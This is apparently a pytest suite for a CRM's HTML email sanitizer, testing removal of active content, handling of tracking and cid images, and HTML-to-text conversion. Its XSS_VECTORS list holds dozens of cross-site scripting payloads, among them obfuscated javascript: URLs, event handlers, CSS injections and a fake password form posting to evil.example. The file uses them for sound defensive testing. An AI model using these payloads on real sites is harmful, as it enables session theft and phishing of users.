from __future__ import annotations

import html.parser
import re

import pytest

from crmflow.mail.html import (
    SanitizedHtml,
    html_to_text,
    plain_text,
    sanitize_html,
    snippet,
)

SAFE_TAGS = {
    "a", "abbr", "address", "b", "bdi", "bdo", "big", "blockquote", "br",
    "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "dfn",
    "div", "dl", "dt", "em", "figcaption", "figure", "font", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p",
    "pre", "q", "s", "samp", "small", "span", "strike", "strong", "sub", "sup",
    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul",
    "var", "wbr",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "xlink:href",
    "srcset",
    "cite",
    "srcdoc",
}


class Elements(html.parser.HTMLParser):
    """The tags and attributes of sanitized output, read like a browser would."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))


def elements(source: str) -> list[tuple[str, dict[str, str]]]:
    return Elements(source).elements


def scheme(url: str) -> str | None:
    cleaned = re.sub(r"[\x00-\x20]", "", url).lower()
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else None


def assert_harmless(result: SanitizedHtml) -> None:
    for tag, attrs in elements(result.html):
        assert tag in SAFE_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {
                "srcdoc",
                "formaction",
                "action",
                "background",
                "srcset",
                "id",
                "class",
                "name",
                "http-equiv",
            }
            if name in URL_ATTRIBUTES:
                assert scheme(value) in {
                    "http",
                    "https",
                    "mailto",
                    "tel",
                    "data",
                    None,
                }, value
                if scheme(value) == "data":
                    assert tag == "img"
                    assert re.match(
                        r"data:image/(png|gif|jpe?g|webp);base64,", value, re.I
                    )
                if scheme(value) is None:  # relative: would point into the CRM
                    assert value.startswith("//") or value == "", value
            if name == "style":
                lowered = value.lower()
                for token in (
                    "url",
                    "expression",
                    "\\",
                    "behavior",
                    "binding",
                    "import",
                    "position",
                    "javascript",
                ):
                    assert token not in lowered, value
    lowered = result.html.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered


XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<IMG SRC="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<a href="javascript:alert(1)">x</a>',
    '<A HREF="JaVaScRiPt:alert(1)">x</A>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:image/png;base64,AAAA">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<STYLE>@import 'https://evil.example/x.css';</STYLE>",
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="color: red; behavior: url(x.htc); -moz-binding: url(x.xml#y)">x</div>',
    '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%">phish</div>',
    '<div style="color: u\\72l(https://evil.example/)">x</div>',
    '<p style="font-family: a/**/;color:red">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password" type="password"><button formaction="javascript:alert(1)">go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="x.class"></applet>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<body onload=alert(1)>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td background="https://t.example/x.gif">x</td></tr></table>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="https://t.example/x.png 1x">',
    '<input type="image" src="https://t.example/x.png">',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    '<div id="login" class="btn" name="x">x</div>',
    '<a href="java\x00script:alert(1)">x</a>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '<a href="/logout">relative</a><img src="/api/track.png">',
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_no_active_content_survives(vector: str) -> None:
    assert_harmless(sanitize_html(vector))
    assert_harmless(
        sanitize_html(vector, allow_remote_images=True, cid_url=lambda c: f"/att/{c}")
    )


def test_all_vectors_in_one_document() -> None:
    result = sanitize_html(
        "<html><head><title>t</title></head><body>"
        + "\n".join(XSS_VECTORS)
        + "</body></html>"
    )
    assert_harmless(result)
    assert "alert(1)" not in "".join(
        v for _, attrs in elements(result.html) for v in attrs.values()
    )


def test_ordinary_mail_html_is_kept() -> None:
    source = (
        '<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" valign="top">'
        '<p style="color: #333333; font-size: 14px; font-weight: bold">Hello <b>Bob</b>,</p>'
        "<ul><li>one</li><li>two</li></ul>"
        '<blockquote>quoted <i>text</i></blockquote><font color="red" face="Arial">red</font>'
        "</td></tr></table>"
    )
    found = elements(sanitize_html(source).html)
    tags = [tag for tag, _ in found]
    for tag in ("table", "tr", "td", "p", "b", "ul", "li", "blockquote", "i", "font"):
        assert tag in tags
    attrs = dict(found)
    assert attrs["table"] == {"width": "600", "cellpadding": "4", "bgcolor": "#ffffff"}
    assert attrs["td"] == {"align": "center", "valign": "top"}
    style = attrs["p"]["style"].replace(" ", "")
    assert style == "color:#333333;font-size:14px;font-weight:bold"
    assert attrs["font"] == {"color": "red", "face": "Arial"}


def test_style_keeps_safe_declarations_only() -> None:
    result = sanitize_html(
        '<p style="color: red; background: url(https://t.example/x.gif); position: absolute; '
        'margin: 0 auto; background-color: rgb(1, 2, 3); width: calc(100% - 2px)">x</p>'
    )
    style = dict(elements(result.html))["p"]["style"].replace(" ", "")
    assert (
        style
        == "color:red;margin:0auto;background-color:rgb(1,2,3);width:calc(100%-2px)"
    )


def test_style_without_any_safe_declaration_is_dropped() -> None:
    assert (
        dict(elements(sanitize_html('<p style="position: fixed">x</p>').html))["p"]
        == {}
    )


def test_links_open_in_a_new_tab_without_referrer() -> None:
    result = sanitize_html(
        '<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">x</a>'
    )
    [(_, attrs)] = elements(result.html)
    assert attrs == {
        "href": "https://example.com/x?a=1&b=2",
        "target": "_blank",
        "rel": "noopener noreferrer",
    }


@pytest.mark.parametrize(
    "href", ["mailto:anna@example.com", "tel:+491234", "http://example.com/"]
)
def test_other_link_schemes_are_kept(href: str) -> None:
    [(_, attrs)] = elements(sanitize_html(f'<a href="{href}">x</a>').html)
    assert attrs["href"] == href


# -- images ------------------------------------------------------------------------


def image_sources(result: SanitizedHtml) -> list[str | None]:
    return [attrs.get("src") for tag, attrs in elements(result.html) if tag == "img"]


def test_remote_images_are_blocked_and_counted() -> None:
    source = (
        '<img src="https://tracker.example/open.gif?u=1" width="1" height="1">'
        '<img src="HTTP://cdn.example/logo.png" alt="Logo">'
        '<img src="//cdn.example/protocol-relative.png">'
    )
    result = sanitize_html(source)
    assert image_sources(result) == [None, None, None]
    assert result.blocked_images == 3
    assert "tracker.example" not in result.html
    assert [attrs for _, attrs in elements(result.html)] == [
        {"width": "1", "height": "1"},
        {"alt": "Logo"},
        {},
    ]


def test_remote_images_are_shown_when_allowed() -> None:
    source = '<img src="https://cdn.example/logo.png"><img src="//cdn.example/x.png">'
    result = sanitize_html(source, allow_remote_images=True)
    assert image_sources(result) == [
        "https://cdn.example/logo.png",
        "https://cdn.example/x.png",
    ]
    assert result.blocked_images == 0


def test_cid_images_are_rewritten_to_attachment_urls() -> None:
    urls = {
        "logo@example.com": "/attachments/17/logo",
        "sig@example.com": "https://crm.example/a/18",
    }
    result = sanitize_html(
        '<img src="cid:logo@example.com"><img src="CID:sig%40example.com"><img src="cid:missing@example.com">',
        cid_url=urls.get,
    )
    assert image_sources(result) == [
        "/attachments/17/logo",
        "https://crm.example/a/18",
        None,
    ]
    assert result.content_ids == ("logo@example.com", "sig@example.com")
    assert result.blocked_images == 0


def test_cid_images_are_dropped_without_cid_url() -> None:
    result = sanitize_html('<img src="cid:logo@example.com">')
    assert image_sources(result) == [None]
    assert result.content_ids == ()


def test_inline_data_images_are_kept() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert image_sources(sanitize_html(f'<img src="{png}">')) == [png]


def test_relative_urls_are_dropped() -> None:
    result = sanitize_html(
        '<a href="/logout">x</a><a href="#top">y</a><img src="../api/me">'
    )
    assert all(
        "href" not in attrs and "src" not in attrs for _, attrs in elements(result.html)
    )


# -- text ----------------------------------------------------------------------------


def test_html_to_text() -> None:
    source = """<!DOCTYPE html><html><head><title>Newsletter</title>
    <style>p { color: red }</style><script>var x = "<p>no</p>";</script></head>
    <body><h1>Hello&nbsp;Bob</h1><p>First   paragraph
    continues &amp; ends.</p><div>Line one<br>Line two</div>
    <ul><li>one</li><li>two</li></ul>
    <table><tr><td>cell a</td><td>cell b</td></tr></table>
    <pre>  indented
      code</pre><p>caf&eacute; &#8364;5 &lt;tag&gt;</p></body></html>"""
    assert html_to_text(source) == (
        "Hello Bob\n"  # a no-break space is a space to the index
        "\n"
        "First paragraph continues & ends.\n"
        "\n"
        "Line one\n"
        "Line two\n"
        "one\n"
        "two\n"
        "\n"
        "cell a cell b\n"
        "\n"
        "  indented\n"
        "      code\n"
        "\n"
        "café €5 <tag>"
    )


def test_html_to_text_with_unclosed_head_and_broken_markup() -> None:
    assert (
        html_to_text("<html><head><title>T</title><body><p>Body <b>text") == "Body text"
    )
    assert html_to_text("<p>a</p><style>x{}") == "a"
    assert html_to_text("") == ""
    assert html_to_text("plain & simple") == "plain & simple"


def test_plain_text_prefers_the_text_part() -> None:
    assert plain_text("the text", "<p>the html</p>") == "the text"
    assert plain_text(None, "<p>the html</p>") == "the html"
    assert plain_text("  \n", "<p>the html</p>") == "the html"
    assert plain_text(None, None) == ""


def test_snippet() -> None:
    assert snippet("  Hello\n\n  world  ") == "Hello world"
    text = "word " * 100
    cut = snippet(text, 40)
    assert len(cut) <= 40
    assert cut.endswith("word…")
    assert snippet("x" * 500, 10) == "x" * 9 + "…"
    assert snippet("exactly ten", 11) == "exactly ten"
